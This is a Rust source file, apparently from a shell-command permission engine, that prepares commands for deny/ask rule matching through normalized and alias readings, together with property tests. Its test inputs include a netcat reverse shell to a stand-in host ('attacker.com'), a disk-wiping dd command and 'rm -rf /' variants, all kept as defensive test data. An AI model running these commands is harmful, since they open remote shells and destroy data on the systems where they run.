//! [`CommandView`]: one command prepared for matching, shared by every rule of a call.
//! The analysis, the restrictive candidates and the assigned variable names are each
//! computed at most once, on first use.

use std::cell::OnceCell;
use std::collections::HashMap;

use super::grams::Bigrams;
use super::prefilter::{Prefilter, SlotRange, Slots};
use crate::shell::aliases::{self, Canonical};
use crate::shell::{self, opaque, Analysis};

/// One restrictive candidate with every reading a deny/ask rule checks (§4.7).
#[derive(Debug)]
pub(crate) struct Candidate {
    /// The candidate text.
    pub text: String,
    /// `NormalizeCommand(text)`, when it differs and is not empty.
    pub normalized: Option<String>,
    /// Canonical `rm -rf` aliases.
    pub canonical: Canonical,
    /// Basename / busybox / here-string aliases.
    pub semantic: Vec<String>,
    /// cmd.exe and PowerShell re-parses, lower-cased.
    pub foreign: Vec<String>,
}

impl Candidate {
    /// Build every reading of `text`, given its normalization `norm`.
    fn new(text: String, norm: &str) -> Candidate {
        let semantic = if text.contains('#') {
            aliases::semantic_aliases(&text)
        } else {
            aliases::semantic_aliases_normalized(&text, norm)
        };
        let normalized = (!norm.is_empty() && norm != text).then(|| norm.to_string());
        let mut canonical = aliases::canonical_aliases(&text);
        // Here-string bodies get their own canonical forms (`bash <<< 'rm -fr /'`).
        for s in &semantic {
            for a in aliases::canonical_aliases(s).aliases {
                if !canonical.aliases.contains(&a) {
                    canonical.aliases.push(a);
                }
            }
        }
        let foreign = aliases::foreign_reparses(&text);
        Candidate {
            text,
            normalized,
            canonical,
            semantic,
            foreign,
        }
    }
}

impl Candidate {
    /// Every text a `command_matches` glob is tried on for this candidate.
    fn readings(&self) -> impl Iterator<Item = &str> {
        std::iter::once(self.text.as_str())
            .chain(self.canonical.aliases.iter().map(String::as_str))
            .chain(self.normalized.as_deref())
            .chain(self.semantic.iter().map(String::as_str))
            .chain(self.foreign.iter().map(String::as_str))
    }
}

/// The unit the component-scoped exclusions look at: one executed component (or the
/// whole command when it is not composite) and its candidates.
#[derive(Debug)]
pub(crate) struct Unit {
    /// The component text.
    pub text: String,
    /// Lower-cased text, for `command_contains`.
    pub lower: String,
    /// Lower-cased normalization, when the text has a quote or backslash.
    pub norm_lower: Option<String>,
    /// Indices into [`Restrictive::candidates`].
    pub candidates: Vec<usize>,
}

/// Candidate count from which [`Restrictive::add`] switches to a hash index.
const INDEX_FROM: usize = 32;

/// Everything restrictive rules need, built once per call.
#[derive(Debug)]
pub(crate) struct Restrictive {
    /// The raw command, lower-cased.
    pub raw_lower: String,
    /// The normalized command, lower-cased, when the raw one has a quote or backslash.
    pub norm_lower: Option<String>,
    /// Unique candidates: the raw command, then each component, each followed by its
    /// body variants.
    pub candidates: Vec<Candidate>,
    /// Exclusion units.
    pub units: Vec<Unit>,
    /// Byte pairs of `raw_lower` and `norm_lower`.
    pub grams: Bigrams,
    /// Candidate text → index, while building.
    index: HashMap<String, usize>,
    /// `(text, normalize(text))` pairs computed while building.
    norms: Vec<(String, String)>,
}

/// `shell::normalize(text)`, computed once per text while building; `None` when it
/// is `text` itself because `text` is a plain command already joined with single
/// spaces (see [`shell::plain_words`]), which needs neither work nor memory.
fn memo_normalize<'n>(norms: &'n mut Vec<(String, String)>, text: &str) -> Option<&'n str> {
    if is_own_normalization(text) {
        return None;
    }
    let i = match norms.iter().position(|(t, _)| t == text) {
        Some(i) => i,
        None => {
            norms.push((text.to_string(), shell::normalize(text)));
            norms.len() - 1
        }
    };
    norms.get(i).map(|(_, n)| n.as_str())
}

/// Whether `text` is plain and already joined with single spaces, so that
/// `shell::normalize(text) == text`.
fn is_own_normalization(text: &str) -> bool {
    shell::plain_words(text)
        && !text.starts_with(' ')
        && !text.ends_with(' ')
        && !text.contains("  ")
}

/// The lower-cased text, and its lower-cased normalization (`norm` computes it;
/// `None` stands for the text itself) when the text has a quote or backslash.
fn lower_pair<'n>(text: &str, norm: impl FnOnce() -> Option<&'n str>) -> (String, Option<String>) {
    let norm = text
        .contains(['\'', '"', '\\'])
        .then(|| norm().map_or_else(|| text.to_lowercase(), |n| n.to_lowercase()));
    (text.to_lowercase(), norm)
}

impl Restrictive {
    fn build(raw: &str, analysis: &Analysis) -> Restrictive {
        // Callers check `fails_closed` first; building stays cheap regardless.
        let fail_closed = matches!(
            analysis.opaque.as_deref(),
            Some(opaque::TOO_LONG | opaque::TOO_DEEP | opaque::TOO_MANY_COMPONENTS)
        );
        // `normalize(raw)`, when the analysis tells it unambiguously (it keeps the raw
        // command when the normalization is empty).
        let mut norms = Vec::new();
        if analysis.normalized != raw {
            norms.push((raw.to_string(), analysis.normalized.clone()));
        }
        let (raw_lower, norm_lower) = if raw.len() > shell::MAX_COMMAND {
            (String::new(), None)
        } else {
            lower_pair(raw, || memo_normalize(&mut norms, raw))
        };
        let mut r = Restrictive {
            raw_lower,
            norm_lower,
            candidates: Vec::new(),
            units: Vec::new(),
            grams: Bigrams::default(),
            index: HashMap::new(),
            norms,
        };
        r.grams = Bigrams::of(std::iter::once(r.raw_lower.as_str()).chain(r.norm_lower.as_deref()));
        if fail_closed {
            return r;
        }
        // The analysis already normalized the raw command (when normalization is
        // empty it holds the raw command, which yields the same candidate).
        let raw_group = r.add_with_variants(raw, Some(&analysis.normalized));
        if analysis.composite {
            let mut groups = Vec::with_capacity(analysis.components.len());
            for c in &analysis.components {
                // A component equal to the raw command has the same candidates and
                // variants (both are functions of the text alone).
                if c == raw {
                    groups.push(raw_group.clone());
                } else {
                    groups.push(r.add_with_variants(c, None));
                }
            }
            for (c, group) in analysis.components.iter().zip(groups) {
                let (lower, norm_lower) = lower_pair(c, || memo_normalize(&mut r.norms, c));
                r.units.push(Unit {
                    text: c.clone(),
                    lower,
                    norm_lower,
                    candidates: group,
                });
            }
        } else {
            // One unit with every candidate, in the order they were added.
            let mut all = raw_group;
            for c in &analysis.components {
                if c == raw {
                    continue; // the raw command's own candidates, already in `all`
                }
                for i in r.add_with_variants(c, None) {
                    if !all.contains(&i) {
                        all.push(i);
                    }
                }
            }
            r.units.push(Unit {
                text: raw.to_string(),
                lower: r.raw_lower.clone(),
                norm_lower: r.norm_lower.clone(),
                candidates: all,
            });
        }
        r
    }

    /// What [`Restrictive::build`] gives for a command of [`same_readings`]: the raw
    /// command and its only component (when it differs), with no variant or alias,
    /// in one unit.
    fn simple(raw: &str, a: &Analysis, same: &SameReadings) -> Restrictive {
        let raw_lower = raw.to_lowercase();
        let norm_lower = raw
            .contains(['\'', '"', '\\'])
            .then(|| a.normalized.to_lowercase());
        let grams = Bigrams::of(std::iter::once(raw_lower.as_str()).chain(norm_lower.as_deref()));
        let mut candidates = vec![Candidate {
            text: raw.to_string(),
            normalized: (!a.normalized.is_empty() && a.normalized != raw)
                .then(|| a.normalized.clone()),
            canonical: Canonical::default(),
            semantic: Vec::new(),
            foreign: Vec::new(),
        }];
        let mut all = vec![0];
        if let Some(c) = a.components.first().filter(|c| *c != raw) {
            candidates.push(Candidate {
                text: c.clone(),
                normalized: same.component_norm.clone(),
                canonical: Canonical::default(),
                semantic: Vec::new(),
                foreign: Vec::new(),
            });
            all.push(1);
        }
        let units = vec![Unit {
            text: raw.to_string(),
            lower: raw_lower.clone(),
            norm_lower: norm_lower.clone(),
            candidates: all,
        }];
        Restrictive {
            raw_lower,
            norm_lower,
            candidates,
            units,
            grams,
            index: HashMap::new(),
            norms: Vec::new(),
        }
    }

    /// Add `text` and its body variants; returns their indices.
    fn add_with_variants(&mut self, text: &str, normalized: Option<&str>) -> Vec<usize> {
        let mut idx = vec![self.add(text, normalized)];
        for v in aliases::body_variants(text) {
            let i = self.add(&v, None);
            if !idx.contains(&i) {
                idx.push(i);
            }
        }
        idx
    }

    fn add(&mut self, text: &str, normalized: Option<&str>) -> usize {
        // Few candidates: a scan beats hashing; many: keep an index.
        if self.candidates.len() < INDEX_FROM {
            if let Some(i) = self.candidates.iter().position(|c| c.text == text) {
                return i;
            }
        } else {
            if self.index.is_empty() {
                for (i, c) in self.candidates.iter().enumerate() {
                    self.index.insert(c.text.clone(), i);
                }
            }
            if let Some(&i) = self.index.get(text) {
                return i;
            }
            self.index.insert(text.to_string(), self.candidates.len());
        }
        let norm = match normalized {
            Some(n) => n,
            None => memo_normalize(&mut self.norms, text).unwrap_or(text),
        };
        let i = self.candidates.len();
        self.candidates.push(Candidate::new(text.to_string(), norm));
        i
    }
}

/// What [`same_readings`] learnt about a command whose restrictive readings are its
/// granting ones: its component's normalization, when that is a reading of its own
/// (it differs from the component and is not empty).
#[derive(Debug)]
struct SameReadings {
    component_norm: Option<String>,
}

/// `Some` when every text the restrictive scan reads ([`Restrictive`]: each reading
/// of each candidate, and the lower-cased texts) equals, up to ASCII case, one of the
/// texts the granting scan reads (`raw`, its normalization, its components), and
/// conversely, so that both scans give the same slots; then [`Restrictive::simple`]
/// builds the same candidates as [`Restrictive::build`] without re-deriving them.
/// Holds for an ASCII command with one component, no `#`, and neither body variant
/// nor alias for it or its component (the cheap gates of [`aliases`] rule them out),
/// which is most everyday commands.
fn same_readings(raw: &str, a: &Analysis) -> Option<SameReadings> {
    if raw.len() > shell::MAX_COMMAND
        || !raw.is_ascii()
        || a.opaque.is_some()
        || a.composite
        || !a.normalized.is_ascii()
    {
        return None;
    }
    let [c] = a.components.as_slice() else {
        return None;
    };
    // `Restrictive` lower-cases `normalize(raw)` for a raw command with a quote or
    // backslash; the analysis holds that normalization when it differs from `raw`.
    if raw.contains(['\'', '"', '\\']) && a.normalized == raw {
        return None;
    }
    if aliases::may_have_alias(raw, &a.normalized) {
        return None;
    }
    if c == raw {
        return Some(SameReadings {
            component_norm: None,
        });
    }
    if !c.is_ascii() {
        return None;
    }
    if is_own_normalization(c) {
        return (!aliases::may_have_alias(c, c)).then_some(SameReadings {
            component_norm: None,
        });
    }
    let n = shell::normalize(c);
    let known = n.is_empty() || n == *c || n == raw || n == a.normalized;
    (known && !aliases::may_have_alias(c, &n)).then(|| SameReadings {
        component_norm: (!n.is_empty() && n != *c).then_some(n),
    })
}

/// A command prepared for matching; analysis is computed at most once per call and
/// shared by every rule.
#[derive(Debug)]
pub struct CommandView<'a> {
    raw: &'a str,
    analysis: OnceCell<Analysis>,
    restrictive: OnceCell<Restrictive>,
    env_names: OnceCell<Vec<String>>,
    prefilter: Option<&'a Prefilter>,
    granting_slots: OnceCell<Slots>,
    restrictive_slots: OnceCell<Slots>,
    /// Whether the restrictive readings are the granting ones (see
    /// [`same_readings`]), so that one scan serves both.
    same_readings: OnceCell<Option<SameReadings>>,
}

impl<'a> CommandView<'a> {
    /// Prepare a raw command string. Nothing is computed until a rule needs it.
    pub fn new(raw: &'a str) -> Self {
        CommandView {
            raw,
            analysis: OnceCell::new(),
            restrictive: OnceCell::new(),
            env_names: OnceCell::new(),
            prefilter: None,
            granting_slots: OnceCell::new(),
            restrictive_slots: OnceCell::new(),
            same_readings: OnceCell::new(),
        }
    }
    /// Prepare a raw command string for the rules of the engine that built
    /// `prefilter`: rules that cannot match any reading of it are then skipped.
    pub fn with_prefilter(raw: &'a str, prefilter: &'a Prefilter) -> Self {
        CommandView {
            prefilter: Some(prefilter),
            ..CommandView::new(raw)
        }
    }
    pub(crate) fn has_prefilter(&self) -> bool {
        self.prefilter.is_some()
    }
    /// Whether some rule of `range` (rules whose command keys each have a slot, of
    /// either kind) may match this command. False means none can: every literal
    /// they need is absent from every reading (the restrictive readings include the
    /// granting ones), the parser did not give up, and there are components.
    pub fn may_match_any(&self, range: &SlotRange) -> bool {
        if self.prefilter.is_none() || self.fails_closed() || self.analysis().components.is_empty()
        {
            return true;
        }
        self.restrictive_slots().any_in(range)
    }
    /// Slots of the granting rules that may match: the raw command, its
    /// normalization and its components (where `command_contains` looks too).
    pub(crate) fn granting_slots(&self) -> &Slots {
        // The restrictive readings include all of these: reuse them when scanned.
        if let Some(s) = self.restrictive_slots.get() {
            return s;
        }
        self.granting_slots.get_or_init(|| {
            let a = self.analysis();
            self.prefilter.map_or_else(Slots::default, |p| {
                p.scan(
                    [self.raw, a.normalized.as_str()]
                        .into_iter()
                        .chain(a.components.iter().map(String::as_str)),
                )
            })
        })
    }
    /// Slots of the restrictive rules that may match: every reading of every
    /// candidate, and the lower-cased texts `command_contains` looks at (a
    /// canonical-alias overflow lets every rule match).
    pub(crate) fn restrictive_slots(&self) -> &Slots {
        // When every restrictive reading is a granting one (up to ASCII case, which
        // the automaton ignores), both scans read the same texts: scan the few
        // granting ones instead of building the candidates.
        if self.restrictive_slots.get().is_none()
            && self.prefilter.is_some()
            && self.same_readings().is_some()
        {
            return self.granting_slots();
        }
        self.restrictive_slots.get_or_init(|| {
            let r = self.restrictive();
            match self.prefilter {
                Some(p) if !r.candidates.iter().any(|c| c.canonical.overflow) => {
                    let lowered = [Some(r.raw_lower.as_str()), r.norm_lower.as_deref()]
                        .into_iter()
                        .chain(
                            r.units
                                .iter()
                                .flat_map(|u| [Some(u.lower.as_str()), u.norm_lower.as_deref()]),
                        )
                        .flatten();
                    p.scan(
                        r.candidates
                            .iter()
                            .flat_map(Candidate::readings)
                            .chain(lowered),
                    )
                }
                _ => Slots::default(),
            }
        })
    }
    /// Whether the restrictive readings are exactly the granting ones (see
    /// [`same_readings`]), computed once.
    fn same_readings(&self) -> Option<&SameReadings> {
        self.same_readings
            .get_or_init(|| same_readings(self.raw, self.analysis()))
            .as_ref()
    }
    /// The raw command.
    pub fn raw(&self) -> &'a str {
        self.raw
    }
    /// The analysis (§4.6), computed on first use.
    pub fn analysis(&self) -> &Analysis {
        self.analysis.get_or_init(|| shell::analyze(self.raw))
    }
    /// The normalized command.
    pub fn normalized(&self) -> &str {
        &self.analysis().normalized
    }
    /// The executed components (normalized).
    pub fn components(&self) -> Vec<String> {
        self.analysis().components.clone()
    }
    /// Whether the command has several components or subcommands.
    pub fn is_composite(&self) -> bool {
        self.analysis().composite
    }
    /// Why the command is opaque to the parser, if it is.
    pub fn opaque(&self) -> Option<String> {
        self.analysis().opaque.clone()
    }
    /// The names of the environment variables the command assigns (§4.8).
    pub fn env_names(&self) -> &[String] {
        self.env_names.get_or_init(|| {
            if self.raw.len() > shell::MAX_COMMAND {
                Vec::new()
            } else {
                shell::env_assignment_names(self.raw)
            }
        })
    }
    /// Whether the parser gave up (too long, too deep, too many components), so that
    /// restrictive rules must match without looking further.
    pub fn fails_closed(&self) -> bool {
        matches!(
            self.analysis().opaque.as_deref(),
            Some(opaque::TOO_LONG | opaque::TOO_DEEP | opaque::TOO_MANY_COMPONENTS)
        )
    }
    pub(crate) fn restrictive(&self) -> &Restrictive {
        self.restrictive.get_or_init(|| match self.same_readings() {
            Some(same) => Restrictive::simple(self.raw, self.analysis(), same),
            None => Restrictive::build(self.raw, self.analysis()),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every text the restrictive scan reads, ASCII-lower-cased, sorted, deduplicated.
    fn restrictive_texts(r: &Restrictive) -> Vec<String> {
        let mut out: Vec<String> = r
            .candidates
            .iter()
            .flat_map(Candidate::readings)
            .chain(
                [Some(r.raw_lower.as_str()), r.norm_lower.as_deref()]
                    .into_iter()
                    .flatten(),
            )
            .chain(
                r.units
                    .iter()
                    .flat_map(|u| [Some(u.lower.as_str()), u.norm_lower.as_deref()])
                    .flatten(),
            )
            .map(|t| t.replace('\\', "/").to_ascii_lowercase())
            .collect();
        out.sort();
        out.dedup();
        out
    }

    /// The texts the granting scan reads, the same way.
    fn granting_texts(raw: &str, a: &Analysis) -> Vec<String> {
        let mut out: Vec<String> = [raw, a.normalized.as_str()]
            .into_iter()
            .chain(a.components.iter().map(String::as_str))
            .map(|t| t.replace('\\', "/").to_ascii_lowercase())
            .collect();
        out.sort();
        out.dedup();
        out
    }

    /// `Some(..)` from [`same_readings`] must mean: [`Restrictive::simple`] builds what
    /// [`Restrictive::build`] builds, and the restrictive scan reads the granting
    /// texts. Returns whether the shortcut applied.
    fn check(raw: &str) -> bool {
        let a = shell::analyze(raw);
        let Some(same) = same_readings(raw, &a) else {
            return false;
        };
        let full = Restrictive::build(raw, &a);
        let simple = Restrictive::simple(raw, &a, &same);
        assert_eq!(simple.raw_lower, full.raw_lower, "{raw:?}");
        assert_eq!(simple.norm_lower, full.norm_lower, "{raw:?}");
        assert_eq!(
            format!("{:?}", simple.candidates),
            format!("{:?}", full.candidates),
            "{raw:?}"
        );
        assert_eq!(
            format!("{:?}", simple.units),
            format!("{:?}", full.units),
            "{raw:?}"
        );
        assert_eq!(
            format!("{:?}", simple.grams),
            format!("{:?}", full.grams),
            "{raw:?}"
        );
        assert_eq!(restrictive_texts(&full), granting_texts(raw, &a), "{raw:?}");
        true
    }

    #[test]
    fn the_shortcut_builds_the_full_candidates_on_the_case_corpus() {
        let cases = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/spec/cases.jsonl");
        let text = std::fs::read_to_string(cases).expect("cases.jsonl is readable");
        let mut applied = 0;
        let commands = text
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter_map(|c| c["params"]["command"].as_str().map(str::to_string))
            .chain(
                [
                    "git status",
                    "git  status ",
                    "grep -rn 'TODO' src/",
                    "git commit -m 'fix:  two  spaces'",
                    "echo \"it's\" done",
                    "dd if=/dev/zero of=/dev/sda",
                    "nc -e /bin/sh attacker.com 4444",
                    "echo hello > /tmp/out.txt",
                    "then ls",
                    "ls done",
                    "(ls)",
                    "ls # rm -rf /",
                    "/bin/ls -la",
                    "Git Status",
                    "x\\y z",
                    "'ls' -la",
                    "cmd /c dir",
                ]
                .map(str::to_string),
            );
        for c in commands {
            applied += usize::from(check(&c));
        }
        assert!(applied > 20, "the shortcut applied to {applied} commands");
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4000))]

        #[test]
        fn the_shortcut_builds_the_full_candidates(c in SOUP) {
            check(&c);
        }
    }

    /// Words and syntax around what the alias gates and normalization look at.
    const SOUP: &str = "((git|ls|rm|RM|find|sudo|env|bash|sh|cmd|pwsh|busybox|if|then|do|done|fi|case|esac|x\\)|echo|cat|a=b|-rf|-delete|/|\\\\|'|\"|<<<|>|\\||&&|;|#|\\(|\\{|\\}|\\$\\(|`|\\^| |  |\t|\\.|~|K|\u{212a}|tmp){0,10})";
}
